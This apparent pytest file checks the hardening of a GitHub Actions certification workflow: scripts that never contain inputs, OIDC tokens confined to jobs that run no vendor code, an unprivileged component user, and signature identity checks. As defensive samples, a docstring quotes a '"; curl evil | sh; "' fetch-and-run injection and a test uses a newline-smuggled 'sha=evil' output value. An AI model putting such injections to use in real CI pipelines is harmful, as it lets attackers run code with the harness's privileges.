"""The certify workflow and the vendor action are built so a signed report means something: fakehw's source is the
workflow's own commit, the component runs as an unprivileged user, inputs never become script text, and only jobs
that run no vendor code hold the OIDC token."""

from __future__ import annotations

import base64
import json
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

ROOT = Path(__file__).parents[1]
CERTIFY = ROOT / ".github" / "workflows" / "certify.yml"
ACTION = ROOT / "action.yml"


def _load(path: Path) -> dict[str, Any]:
    data = yaml.load(path.read_text(), Loader=yaml.BaseLoader)  # BaseLoader keeps "on" a string key
    assert isinstance(data, dict)
    return data


def _steps(doc: dict[str, Any]) -> list[tuple[str, dict[str, Any]]]:
    if "jobs" in doc:
        return [(name, step) for name, job in doc["jobs"].items() for step in job.get("steps", [])]
    return [("action", step) for step in doc["runs"]["steps"]]


@pytest.mark.parametrize("path", [CERTIFY, ACTION], ids=lambda p: p.name)
def test_inputs_never_become_script_text(path: Path) -> None:
    """``${{ inputs.x }}`` inside ``run:`` is pasted into the script before bash sees it: a component string
    with ``"; curl evil | sh; "`` would run as the harness. Inputs go through ``env:``."""
    for job, step in _steps(_load(path)):
        script = step.get("run", "")
        assert not re.search(r"\$\{\{\s*(inputs|github\.event)\.", script), f"{path.name} {job}: {script[:200]}"


def test_the_caller_cannot_choose_the_fakehw_source() -> None:
    doc = _load(CERTIFY)
    inputs = doc["on"]["workflow_call"]["inputs"]
    assert not any("repository" in name or name.endswith("ref") for name in inputs), sorted(inputs)
    for job, step in _steps(doc):
        if step.get("uses", "").startswith("actions/checkout") and step.get("with", {}).get("path") == ".fakehw":
            assert step["with"]["repository"] == "${{ needs.source.outputs.repository }}", job
            assert step["with"]["ref"] == "${{ needs.source.outputs.sha }}", job
    run_env = doc["jobs"]["run"]["env"]
    assert run_env["FAKEHW_SOURCE_COMMIT"] == "${{ needs.source.outputs.sha }}"
    assert run_env["FAKEHW_BUILDER_ID"] == "${{ needs.source.outputs.identity }}"


def test_only_jobs_without_vendor_code_hold_the_oidc_token() -> None:
    doc = _load(CERTIFY)
    assert doc["permissions"] == {}
    holders = {name for name, job in doc["jobs"].items() if job.get("permissions", {}).get("id-token") == "write"}
    assert holders == {"source", "sign"}
    assert doc["jobs"]["run"]["permissions"] == {"contents": "read"}
    for job in holders:
        scripts = " ".join(step.get("run", "") for step in doc["jobs"][job]["steps"])
        assert "SETUP" not in scripts and "COMPONENT" not in scripts, job
    for job, step in _steps(doc):
        if step.get("uses", "").startswith("actions/checkout"):
            assert step.get("with", {}).get("persist-credentials") == "false", f"{job}: the token stays on disk"


@pytest.mark.parametrize("path", [CERTIFY, ACTION], ids=lambda p: p.name)
def test_the_component_runs_as_an_unprivileged_user(path: Path) -> None:
    steps = [step for _, step in _steps(_load(path))]
    scripts = "\n".join(step.get("run", "") for step in steps)
    assert "useradd" in scripts and '! sudo -l -U' in scripts  # created, and checked to have no sudo
    setup = next(step for step in steps if "SETUP" in step.get("env", {}))
    assert setup["run"].startswith('sudo -u "$COMPONENT_USER"') or setup["run"].startswith("sudo -u fakehw-component")
    run = next(step for step in steps if "conformance\" run" in step.get("run", "")
               or "conformance run" in step.get("run", ""))
    assert "--component-user" in run["run"] and re.search(r"^\s*sudo ", run["run"], re.M), run["run"]


def test_the_signing_job_verifies_against_this_workflow_identity() -> None:
    sign = _load(CERTIFY)["jobs"]["sign"]
    scripts = [step.get("run", "") for step in sign["steps"]]
    assert any("conformance sign fakehw-report --sigstore" in s for s in scripts)
    verify = next(step for step in sign["steps"] if "conformance verify" in step.get("run", ""))
    assert verify["env"]["IDENTITY"] == "${{ needs.source.outputs.identity }}"
    assert '--identity "$IDENTITY"' in verify["run"]
    assert "--issuer https://token.actions.githubusercontent.com" in verify["run"]


def _source_script() -> str:
    step = next(step for _, step in _steps(_load(CERTIFY)) if step.get("id") == "which")
    body = step["run"].split("<<'EOF'\n", 1)[1].split("\nEOF", 1)[0]
    return body


def _token(claims: dict[str, str]) -> str:
    def part(doc: dict[str, str]) -> str:
        return base64.urlsafe_b64encode(json.dumps(doc).encode()).decode().rstrip("=")
    return f"{part({'alg': 'RS256'})}.{part(claims)}.c2ln"


def _run_source(tmp_path: Path, claims: dict[str, str]) -> subprocess.CompletedProcess[str]:
    token = tmp_path / "token.json"
    token.write_text(json.dumps({"count": 1, "value": _token(claims)}))
    return subprocess.run([sys.executable, "-", str(token)], input=_source_script(), capture_output=True, text=True,
                          timeout=60, check=False)


def test_the_source_job_reads_the_called_workflow_from_the_token(tmp_path: Path) -> None:
    sha = "0123456789abcdef0123456789abcdef01234567"
    proc = _run_source(tmp_path, {"job_workflow_ref": "fakehw/fakehw/.github/workflows/certify.yml@refs/tags/v1",
                                  "job_workflow_sha": sha, "repository": "vendor/plugin"})
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.splitlines() == [
        "repository=fakehw/fakehw", f"sha={sha}",
        "identity=https://github.com/fakehw/fakehw/.github/workflows/certify.yml@refs/tags/v1"]


@pytest.mark.parametrize("ref", [
    "vendor/plugin/.github/workflows/release.yml@refs/heads/main",  # not the certify workflow
    "fakehw/fakehw/.github/workflows/certify.yml@refs/heads/main\nsha=evil",  # output injection
    "fakehw/fakehw/.github/workflows/certify.yml",  # no ref
])
def test_the_source_job_refuses_anything_else(ref: str, tmp_path: Path) -> None:
    proc = _run_source(tmp_path, {"job_workflow_ref": ref, "job_workflow_sha": "a" * 40})
    assert proc.returncode != 0 and "unexpected workflow identity" in proc.stderr
    assert "repository=" not in proc.stdout
